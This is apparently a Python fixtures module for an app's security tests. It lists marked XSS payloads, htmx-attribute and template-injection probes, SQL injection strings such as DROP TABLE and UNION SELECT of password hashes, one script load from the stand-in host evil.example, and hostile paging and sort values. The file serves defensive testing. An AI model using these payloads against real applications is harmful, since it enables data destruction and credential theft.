"""Hostile strings for the attack tests (tests/security/).

Every XSS payload carries the marker "zqmark": a page that shows the stored value must show the
marker as text, and an element or attribute the payload would create carries "zq" in its name
(`zqattr`) or value, so tests/security/html_checks.py can tell the app's own markup from markup a
payload made.
"""

MARKER = "zqmark"

XSS = [
    "<script>zqmark()</script>",
    "<script src=https://evil.example/zqmark.js></script>",
    "<img src=x onerror=alert(1) zqattr alt=zqmark>",
    "<svg onload=alert(1) zqattr>zqmark</svg>",
    "<body onload=alert(1) zqattr>zqmark",
    "<iframe src=javascript:alert(1) zqattr>zqmark</iframe>",
    "<a href=javascript:alert(1) zqattr>zqmark</a>",
    "javascript:alert('zqmark')",
    " JaVaScRiPt:alert('zqmark')",
    "data:text/html,<script>zqmark()</script>",
    '<div hx-get="/admin/users" hx-trigger="load" zqattr>zqmark</div>',
    '<button hx-post="/logout" hx-trigger="load" zqattr>zqmark</button>',
    '<div hx-on:click="alert(1)" zqattr>zqmark</div>',
    '<div hx-on::load="alert(1)" zqattr>zqmark</div>',
    '<div data-hx-get="/admin" data-hx-trigger="load" zqattr>zqmark</div>',
    "zq{{7*7}}zq zqmark",
    "zq{% if 1 %}yes{% endif %}zq zqmark",
    "zq{{ config }}zq zqmark",
    "${7*7} #{7*7} <%= 7*7 %> zqmark",
    '"><script>zqmark()</script>',
    "'><img src=x onerror=alert(1) zqattr>zqmark",
    "' onmouseover='alert(1)' zqattr='zqmark",
    '" onmouseover="alert(1)" zqattr="zqmark',
    "</textarea><script>zqmark()</script>",
    "</title><script>zqmark()</script>",
    "--><script>zqmark()</script><!--",
    # Unicode tricks: full-width angle brackets, a right-to-left override, zero-width and
    # combining characters, an emoji, a NUL-free control character, U+2028.
    "\uff1cscript\uff1ezqmark()\uff1c/script\uff1e",
    "zqmark \u202egnp.exe <script>zqmark()</script>",
    "zq\u200bmark<scr\u200bipt>zqmark()</script>",
    "zqmark 😀 <img src=x onerror=alert(1) zqattr> e\u0301",
    "zqmark\u2028<script>zqmark()</script>",
]

# Template syntax that a server-side template bug would evaluate: (payload, what it would give).
TEMPLATE_EVALUATED = {"zq{{7*7}}zq zqmark": "zq49zq", "zq{% if 1 %}yes{% endif %}zq zqmark": "zqyeszq",
                      "zq{{ config }}zq zqmark": "SECRET_KEY"}

# Strings for every search box and filter: SQL injection, LIKE wildcards, quoting, huge, odd.
INJECTION = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DROP TABLE leads; --",
    ";DROP TABLE leads",
    "') UNION SELECT password_hash, email FROM users --",
    "%",
    "%%",
    "_",
    "\\",
    "\\%",
    "'",
    '"',
    "*",
    "a' AND SLEEP(5)--",
    "\x00",
    "abc\x00def",
    "😀",
    "ﬁ ß İ",
    "\u202e",
    "x" * 5000,
    "%" * 300,
    "-1",
    "0",
    str(10**20),
    "null",
    "[]",
    "{}",
]

# Hostile page and sort values for every list.
HOSTILE_PAGE = ["-1", "0", str(10**20), "abc", "1.5", "1e3", "", "%", "1;DROP TABLE leads", "\x00", "９"]
HOSTILE_SORT = ["name;drop table leads", "password_hash", "-password_hash", "unknown", "--name", "%", "",
                "name desc", "(select 1)", "\x00", "-" * 100]
